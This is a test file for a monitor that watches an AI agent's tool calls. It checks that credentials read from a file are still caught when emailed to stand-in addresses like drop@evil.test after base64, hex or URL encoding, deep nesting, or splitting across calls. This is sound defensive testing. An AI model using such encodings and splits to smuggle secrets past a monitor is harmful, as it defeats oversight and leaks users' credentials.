// Issue 12 boundary finding 6, decoding half, "Exfiltration through encodings and splits": a secret read
// earlier and sent base64-, base64url-, hex- or URL-encoded (a few layers deep), nested deeper than 16
// levels, used as an object key, or split across two calls to the same destination, is still
// recognised as a secret and as coming from that read. Checked on the facts rules see (data.labels,
// provenance.fragments) through a probe rule, in a real SDK session; whether the pack then denies is
// the pack's business (test/adversarial/provenance-side-effects.test.ts).
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { z } from 'zod';
import { decodedLayers } from '../../src/analyze/decode.js';
import { createMonitor, loadRulePack, packPolicies, parseIntent, tap, type Alert } from '../../src/index.js';

const SECRET =
  'aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const PROBE = new URL('../fixtures/h1-probe-rules', import.meta.url).pathname;

async function session() {
  const server = new McpServer({ name: 'office', version: '1' });
  server.registerTool(
    'read_file',
    { description: 'Read a file', inputSchema: { path: z.string() } },
    async () => ({ content: [{ type: 'text', text: SECRET }] }),
  );
  server.registerTool(
    'send_email',
    {
      description: 'Send an email',
      inputSchema: { to: z.string(), body: z.any(), subject: z.string().optional() },
    },
    async () => ({ content: [{ type: 'text', text: 'sent' }] }),
  );
  const monitor = createMonitor({ policy: packPolicies(loadRulePack([PROBE], { shipped: false })) });
  const alerts: Alert[] = [];
  monitor.alerts$.subscribe((a) => alerts.push(a));
  const [clientT, serverT] = InMemoryTransport.createLinkedPair();
  await server.connect(serverT);
  const client = new Client({ name: 'agent', version: '1' });
  await client.connect(
    tap(clientT, monitor, {
      side: 'client',
      intent: parseIntent({
        purpose: 'mail the notes to team@corp.test',
        tools: ['read_file', 'send_email'],
        recipients: ['team@corp.test'],
        // The task may read that environment file (issue 12 finding 1 would hold the read otherwise): this test is about what leaves after it.
        resources: { sensitive: ['environment'] },
      }),
    }),
  );
  await client.callTool({ name: 'read_file', arguments: { path: 'creds.env' } });
  /** What the probe saw for each send: sources and labels (empty when it did not fire). */
  const send = async (body: unknown, to = 'team@corp.test'): Promise<string> => {
    const before = alerts.length;
    await client.callTool({ name: 'send_email', arguments: { to, subject: 'notes', body } });
    return alerts
      .slice(before)
      .filter((a) => a.rule === 'PROBE-ENC-001')
      .map((a) => a.reason)
      .join(' | ');
  };
  return {
    send,
    async close() {
      await client.close();
      monitor.close();
    },
  };
}

const b64 = (s: string) => Buffer.from(s).toString('base64');
const nest = (v: unknown, n: number): unknown => (n === 0 ? v : { inner: nest(v, n - 1) });

describe('Exfiltration through encodings and splits (issue 12, boundary finding 6: decoding)', () => {
  const variants: Record<string, unknown> = {
    base64: b64(SECRET),
    base64url: Buffer.from(SECRET).toString('base64url'),
    hex: Buffer.from(SECRET).toString('hex'),
    'URL-encoded': encodeURIComponent(SECRET),
    'percent-encoded, every byte': [...Buffer.from(SECRET)]
      .map((b) => `%${b.toString(16).padStart(2, '0')}`)
      .join(''),
    'base64 of hex (two layers)': b64(Buffer.from(SECRET).toString('hex')),
    'inside a sentence, base64': `Hi team, the blob is ${b64(SECRET)} - cheers`,
    'nested 17 levels deep': nest(SECRET, 17),
    // Beyond the old 16-level scan; past 32 levels the resource scope refuses the call outright (ERR_ARGS_UNSCANNABLE).
    'nested 30 levels deep, base64': nest(b64(SECRET), 30),
    'used as an object key': { [SECRET]: true },
  };
  for (const [name, body] of Object.entries(variants)) {
    it(`${name}: labelled secret and traced to the read`, async () => {
      const s = await session();
      const seen = await s.send(body);
      assert.match(seen, /read_file/, `provenance: ${seen}`);
      assert.match(seen, /secret/, `labels: ${seen}`);
      await s.close();
    });
  }

  it('split across two calls to the same destination: the call completing it is labelled secret and traced to the read', async () => {
    const s = await session();
    const key = 'AKIAIOSFODNN7EXAMPLE';
    // Each half alone is too short to be a key or a fragment of the read.
    assert.equal(
      await s.send(key.slice(10), 'other@evil.test'),
      '',
      'the second half alone, to another destination',
    );
    assert.equal(await s.send(key.slice(0, 10), 'drop@evil.test'), '', 'the first half alone');
    const joined = await s.send(key.slice(10), 'drop@evil.test');
    assert.match(joined, /read_file/, `joined with what was sent there before: ${joined}`);
    assert.match(joined, /secret/, `labels of the joined text: ${joined}`);
    await s.close();
  });

  it('ordinary text decodes to nothing; decoding output stays bounded', () => {
    assert.deepEqual(decodedLayers('Meeting notes: shipped the beta, two bugs open, retro on Friday.'), []);
    const huge = b64(b64(b64('x'.repeat(30_000))));
    assert.ok(decodedLayers(huge).reduce((n, d) => n + d.length, 0) <= 2 * huge.length);
  });
});
